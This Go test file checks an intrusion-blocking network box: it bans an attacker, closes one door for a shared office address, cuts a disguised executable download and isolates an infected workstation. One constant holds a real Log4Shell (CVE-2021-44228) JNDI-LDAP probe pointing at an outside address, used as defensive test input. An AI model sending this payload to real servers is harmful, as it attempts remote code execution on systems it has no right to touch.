package stories

import (
	"context"
	"net/netip"
	"strings"
	"testing"
	"time"

	"abri.example/abri"
	"abri.example/abri/box/control"
	"abri.example/abri/testnet"
)

// probe is what a criminal sends to a web server that writes what it is told into its log (CVE-2021-44228).
const probe = "/?q=${jndi:ldap://203.0.113.66/a}"

// unlisted is the scene in which no list knows those who come: what is stopped is stopped for what it does.
func unlisted(t *testing.T) (*testnet.Scene, *testnet.Box) {
	t.Helper()
	s := testnet.TownHall(testnet.New(t))
	f := s.BoxFile()
	f.Lists = f.Lists[1:] // of destinations only
	b := s.NewBox(program, f)
	t.Cleanup(func() {
		if t.Failed() {
			t.Log(b.LastWords())
		}
	})
	start(t, b)
	return s, b
}

func page(t *testing.T, from testnet.Peer, at netip.Addr, path string, limit time.Duration) error {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), limit)
	defer cancel()
	_, err := from.Fetch(ctx, netip.AddrPortFrom(at, testnet.WebPort), path)
	return err
}

// "It keeps most criminals from entering the protected network": also one whom no list knows. What he does is seen, and
// from then on nothing of him comes through, at any door; it is told why, in both languages, and it is one attack,
// neutralised. A person lets him back in a second.
func TestStoryWhoseDeedIsSeenIsKeptOut(t *testing.T) {
	s, b := unlisted(t)
	crook := s.Attackers[0].Peer
	_ = page(t, crook, s.Site.V4, probe, honestLimit)
	banned := func() error {
		a, err := b.Why(t.Context(), crook.V4)
		if err == nil && a.Action != abri.ActBan {
			err = &abri.Error{Code: abri.CodeNotFound, What: "not banned: " + a.Sentence}
		}
		return err
	}
	await(t, banned)
	if page(t, crook, s.Site.V4, "/", criminalLimit) == nil {
		t.Error("a page is shown to who was banned")
	}
	if err := page(t, s.Citizen, s.Site.V4, "/", honestLimit); err != nil {
		t.Errorf("a citizen is kept out: %v", err)
	}
	w := sky(t, b, func(w testnet.Weather) bool { return w.Neutralised == 1 })
	if w.Attacks != 1 {
		t.Errorf("one criminal is %d attacks", w.Attacks)
	}
	said, err := b.Type(t.Context(), "why", crook.V4.String())
	if err != nil || !strings.Contains(said, "est bannie : essaie d'entrer par une faille connue") || !strings.Contains(said, "is banned: it tries to get in by a known hole") {
		t.Errorf("abri why says %q, %v", said, err)
	}
	restart(t, b)
	if err := banned(); err != nil {
		t.Errorf("after a restart: %v", err)
	}
	if err := b.Release(t.Context(), netip.PrefixFrom(crook.V4, 32), 0); err != nil {
		t.Fatal(err)
	}
	if err := page(t, crook, s.Site.V4, "/", honestLimit); err != nil {
		t.Errorf("released, and kept out: %v", err)
	}
	if said, err := b.Type(t.Context(), "measures"); err != nil || !strings.Contains(said, "exploit") {
		t.Errorf("abri measures says %q, %v", said, err)
	}
}

// One with a sick device among many who share an address: his door is closed, and the others go on at theirs.
func TestStoryAnOfficeBehindOneAddressGoesOn(t *testing.T) {
	s, b := unlisted(t)
	office := s.Citizen
	letter := "Subject: permis\r\n\r\n" + strings.Repeat("Bonjour, voici les pièces demandées.\r\n", 900)
	deliver := func() error {
		ctx, cancel := context.WithTimeout(t.Context(), honestLimit)
		defer cancel()
		return office.Deliver(ctx, netip.AddrPortFrom(s.Mail.V4, testnet.MailPort), letter)
	}
	for range 4 {
		if err := deliver(); err != nil {
			t.Fatal(err)
		}
	}
	await(t, func() error { // what the kernel counted of them was told
		st, err := b.Status(t.Context())
		if err == nil && st.Kernel.Flows < 4 {
			err = &abri.Error{Code: abri.CodeNotFound, What: "the letters are not counted"}
		}
		return err
	})
	_ = page(t, office, s.Site.V4, probe, honestLimit)
	var a control.Answer
	await(t, func() (err error) {
		if a, err = b.Why(t.Context(), office.V4); err == nil && len(a.Decisions) == 0 {
			err = &abri.Error{Code: abri.CodeNotFound, What: "nothing is decided: " + a.Sentence}
		}
		return err
	})
	if page(t, office, s.Site.V4, "/", criminalLimit) == nil {
		t.Error("the door that was attacked is open")
	}
	if a.Decisions[0].Door != "tcp/80" {
		t.Errorf("decided: %+v", a.Decisions)
	}
	if err := deliver(); err != nil {
		t.Errorf("the office's mail is stopped: %v", err)
	}
}

// One conversation is cut, and nobody banned: a program that comes as a picture, from a site that was broken into. Of it not
// even the beginning is of use; all else on that site can still be read.
func TestStoryAProgramInDisguiseIsCut(t *testing.T) {
	s, b := unlisted(t)
	if _, err := b.Type(t.Context(), "promote", "malware-download"); err != nil { // as after seven days
		t.Fatal(err)
	}
	const disguised = "/photo.jpg"
	program := "MZ\x90\x00\x03\x00" + strings.Repeat("This program cannot be run in DOS mode. ", 20_000)
	s.Newspaper.Offer(disguised, "image/jpeg", program)
	address := netip.AddrPortFrom(s.Newspaper.V4, testnet.WebPort)
	fetch := func(path string) (string, error) {
		ctx, cancel := context.WithTimeout(t.Context(), honestLimit)
		defer cancel()
		return s.Desk.Peer.Fetch(ctx, address, path)
	}
	got, err := fetch(disguised)
	if err == nil || len(got) == len(program) {
		t.Errorf("the whole program came: %d bytes, %v", len(got), err)
	}
	if _, err := fetch("/"); err != nil {
		t.Errorf("the site that it lay on is shut: %v", err)
	}
	w := sky(t, b, func(w testnet.Weather) bool { return w.Neutralised == 1 })
	if w.Attacks != 1 {
		t.Errorf("one program is %d attacks", w.Attacks)
	}
	if a, err := b.Why(t.Context(), s.Newspaper.V4); err != nil || len(a.Decisions) != 0 {
		t.Errorf("it is banned: %+v, %v", a.Decisions, err)
	}
}

// "Isoler ce poste": a sick workstation reaches the box and asks for names, and no more; and as easily it is let back.
func TestStoryASickWorkstationIsIsolated(t *testing.T) {
	s, b := unlisted(t)
	desk := s.Desk.Peer
	news := func(limit time.Duration) error { return page(t, desk, s.Newspaper.V4, "/", limit) }
	if err := news(honestLimit); err != nil {
		t.Fatal(err)
	}
	if _, err := b.Type(t.Context(), "isolate", desk.V4.String()); err != nil {
		t.Fatal(err)
	}
	if news(criminalLimit) == nil {
		t.Error("an isolated workstation reads the newspaper")
	}
	ctx, cancel := context.WithTimeout(t.Context(), honestLimit)
	defer cancel()
	if _, err := desk.Resolve(ctx, netip.AddrPortFrom(s.Resolver.V4, testnet.DNSPort), "journal.example."); err != nil {
		t.Errorf("it can't ask for names: %v", err)
	}
	if _, err := b.Page(t.Context(), "/", abri.French); err != nil {
		t.Errorf("it can't see the box's page: %v", err)
	}
	restart(t, b)
	if news(criminalLimit) == nil {
		t.Error("after a restart it reads the newspaper")
	}
	moved := desk // it asks for another address, as any sick machine may: it is known by its card
	moved.V4 = netip.MustParseAddr("192.168.10.177")
	desk.Host.Address("eth0", netip.PrefixFrom(moved.V4, 24))
	if page(t, moved, s.Newspaper.V4, "/", criminalLimit) == nil {
		t.Error("with another address it reads the newspaper")
	}
	if page(t, desk, s.Newspaper.V6, "/", criminalLimit) == nil {
		t.Error("by IPv6 it reads the newspaper")
	}
	if _, err := b.Type(t.Context(), "isolate", desk.V4.String(), "--undo"); err != nil {
		t.Fatal(err)
	}
	if err := news(honestLimit); err != nil {
		t.Errorf("let back, and cut off: %v", err)
	}
	if err := page(t, moved, s.Newspaper.V4, "/", honestLimit); err != nil {
		t.Errorf("let back, and cut off at its other address: %v", err)
	}
	if _, err := b.Type(t.Context(), "isolate", testnet.RouterAddress.String()); err == nil {
		t.Error("the whole site was cut off by isolating its router")
	}
}

func await(t *testing.T, ask func() error) {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), lag)
	defer cancel()
	if err := testnet.AwaitThat(ctx, ask); err != nil {
		t.Fatal(err)
	}
}
